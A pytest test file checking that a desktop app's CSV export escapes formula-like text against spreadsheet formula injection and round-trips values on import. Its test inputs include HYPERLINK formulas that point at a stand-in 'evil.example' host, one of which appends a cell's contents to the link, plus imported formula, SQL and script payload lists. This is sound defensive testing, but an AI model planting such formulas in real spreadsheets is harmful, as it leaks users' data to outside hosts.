"""CSV export protects spreadsheet users from formula injection and still round-trips every value.

A text cell starting with =, +, -, @, a tab, a carriage return or ' is written with one ' in front
(OWASP's advice; ' itself so the import can always take exactly one off); numbers and dates never
are. Export -> import (one kind, and `export all` -> `import all`) gives every text back exactly.
"""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from desktop_app.db import models as m
from desktop_app.services import archive, exporter, records
from desktop_app.services.errors import ValidationError
from desktop_app.services.importer import import_file
from desktop_app.services.interchange import (
    FORMULA_STARTS,
    SPECS,
    escape_text,
    format_cell,
    parse_cell,
    unescape_text,
)
from desktop_app.services.kinds import KINDS
from desktop_app.services.values import INT, LONGTEXT, MONEY, TEXT, Field
from tests.services.test_hostile_records import (
    FORMULAS,
    FUZZ,
    SCRIPTS,
    SQL,
    everything,
    make_world,
    rolled_back,
)

pytestmark = pytest.mark.usefixtures("database")

TODAY = dt.date(2024, 6, 15)


@pytest.fixture
def world() -> dict[str, int]:
    return make_world()

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")

text_char = st.characters(exclude_categories=("Cs",), exclude_characters="\x00")
some_text = st.one_of(
    st.text(text_char, max_size=30),
    st.builds(lambda start, rest: start + rest, st.sampled_from(list(FORMULA_STARTS) + ["''", " =", "\r\n="]),
              st.text(text_char, max_size=15)),
    st.sampled_from(FORMULAS + SQL + SCRIPTS + ["a\rb", "a\r\nb\nc", "\"quoted\"", "x,y", "é\u0301"]),
)


def read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as f:
        header, *rows = list(csv.reader(f))
    return [dict(zip(header, row)) for row in rows]


# --- the escaping itself ----------------------------------------------------------------------


@given(st.text(st.characters(exclude_categories=())))
@settings(max_examples=300, **FUZZ)
def test_escaping_is_reversible_and_leaves_no_dangerous_start(text: str) -> None:
    cell = escape_text(text)
    assert unescape_text(cell) == text
    assert not cell.startswith(DANGEROUS)
    assert cell == text or cell == "'" + text


@pytest.mark.parametrize(("text", "cell"), [
    ("=HYPERLINK(\"http://evil.example\",\"x\")", "'=HYPERLINK(\"http://evil.example\",\"x\")"),
    ("@SUM(A1)", "'@SUM(A1)"), ("-2+3", "'-2+3"), ("+1", "'+1"), ("'quoted", "''quoted"), ("\tx", "'\tx"),
    ("\r=1", "'\r=1"), ("a=b", "a=b"), ("", ""),
])
def test_text_cells_are_escaped(text: str, cell: str) -> None:
    for field in (Field("name", "Name", TEXT), Field("notes", "Notes", LONGTEXT)):
        assert format_cell(field, text) == cell
        assert parse_cell(field, cell) == field.clean(text)
    assert parse_cell(Field("notes", "Notes", LONGTEXT), cell) == (text.lstrip("\r") or None)


def test_numbers_and_dates_are_never_escaped() -> None:
    assert format_cell(Field("n", "N", INT, minimum=-9), -5) == "-5"
    assert parse_cell(Field("n", "N", INT, minimum=-9), "-5") == -5
    assert format_cell(Field("m", "M", MONEY), 0) == "0"
    assert format_cell(KINDS["task"].field("due_on"), dt.date(2024, 1, 2)) == "2024-01-02"


# --- one kind: export -> delete -> import -----------------------------------------------------


def create_with_texts(world: dict[str, int], kind: str, texts: dict[str, str], company: str) -> int:
    """A record of the CSV kind with the given text in its own text columns (the linked company
    named `company` when the kind names one)."""
    spec = SPECS[kind]
    values: dict[str, Any] = {spec.column(c).target: t for c, t in texts.items()}
    company_id = records.create("company", {"name": company}).primary_id
    if kind == "opportunities":
        values |= {"company": company_id}
    elif kind == "interviews":
        values |= {"opportunity": records.create("opportunity", {"company": company_id, "title": "Role"}).primary_id,
                   "scheduled_on": "2024-05-01"}
    elif kind == "contacts":
        values |= {"company": company_id}
    elif kind == "offers":
        values |= {"opportunity": records.create("opportunity", {"company": company_id, "title": "Role"}).primary_id,
                   "received_on": "2024-07-01", "base_salary": 1}
    elif kind == "questions":
        values |= {"interview": world["interview"]}
    return records.create(spec.kind.name, values).primary_id


TEXT_COLUMNS = {kind: [c.name for c in spec.columns if c.target and c.is_text] for kind, spec in SPECS.items()}


@settings(max_examples=100, **FUZZ)
@given(kind=st.sampled_from(sorted(SPECS)), data=st.data())
def test_export_then_import_gives_every_text_back_exactly(world: dict[str, int], tmp_path: Path, kind: str,
                                                          data: st.DataObject) -> None:
    spec = SPECS[kind]
    texts = {c: data.draw(some_text, label=c) for c in TEXT_COLUMNS[kind]}
    company = data.draw(some_text, label="company")
    path = tmp_path / f"{kind}.csv"
    with rolled_back():
        try:
            record_id = create_with_texts(world, kind, texts, company)
        except ValidationError:
            return  # e.g. a required name that is only spaces; test_hostile_records covers refusals
        stored = records.get(spec.kind.name, record_id)
        exporter.export_file(kind, path)
        cells = read(path)[-1]
        for column in TEXT_COLUMNS[kind]:
            text = records.get(spec.kind.name, record_id)[spec.column(column).target]
            if text is not None:
                assert cells[column] == ("'" + text if text.startswith(FORMULA_STARTS) else text)
                assert not cells[column].startswith(DANGEROUS)
        records.delete(spec.kind.name, record_id)
        result = import_file(kind, path, today=TODAY)
        assert result.errors == [] and result.created == 1, result.errors
        new = next(r.after for r in result.change.rows if r.table == spec.kind.model._meta.table_name)
        for column in TEXT_COLUMNS[kind]:
            target = spec.column(column).target
            assert new[target] == stored[target], column
        assert result.also_created == {}  # the company (and role) cells named the existing records


@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "@SUM(A1)", "-2+3",
                                  "'quoted", "''twice", "+49 30 1234", "\t=1", "a\rb", "a\r\nb", "line\rbreak\r"])
def test_formula_like_text_round_trips_through_a_companies_file(tmp_path: Path, text: str) -> None:
    company = records.create("company", {"name": "=Co " + text.strip(), "notes": text}).primary_id
    before = records.get("company", company)
    path = tmp_path / "companies.csv"
    exporter.export_file("companies", path)
    row = read(path)[0]
    assert row["name"].startswith("'=Co")
    assert row["notes"] == escape_text(before["notes"])
    records.delete("company", company)
    result = import_file("companies", path)
    assert result.errors == [] and result.created == 1
    after = records.get("company", result.change.primary_id)
    assert (after["name"], after["notes"]) == (before["name"], before["notes"])


def test_a_carriage_return_inside_text_does_not_break_the_file(tmp_path: Path) -> None:
    """Python's csv module does not quote a lone \\r; the exporter quotes such a row whole."""
    records.create("company", {"name": "Acme", "notes": "first\rsecond"})
    path = tmp_path / "companies.csv"
    exporter.export_file("companies", path)
    assert path.read_bytes().split(b"\n")[1].startswith(b'"Acme","",')
    assert b'"first\rsecond"' in path.read_bytes()
    assert read(path)[0]["notes"] == "first\rsecond"


# --- everything: export all -> empty -> import all --------------------------------------------


@settings(max_examples=25, **FUZZ)
@given(texts=st.lists(some_text, min_size=6, max_size=6))
def test_export_all_then_import_all_gives_every_row_back(
        world: dict[str, int], tmp_path_factory: pytest.TempPathFactory, texts: list[str]) -> None:
    name, notes, title, contact, question, summary = texts
    dest = tmp_path_factory.mktemp("archive") / "all"
    with rolled_back():
        try:
            company = records.create("company", {"name": name, "notes": notes, "location": notes}).primary_id
            records.create("opportunity", {"company": company, "title": title, "job_description": notes})
            person = records.create("contact", {"name": contact, "role": notes, "notes": summary}).primary_id
            records.create("interaction", {"contact": person, "occurred_on": "2024-01-01", "summary": summary})
            records.create("question", {"text": question, "better_answer": notes})
        except ValidationError:
            return
        before = everything()
        archive.export_all(dest)
        for model in reversed(m.RECORD_MODELS):
            model.delete().execute()
        archive.import_all(dest)
        assert everything() == before
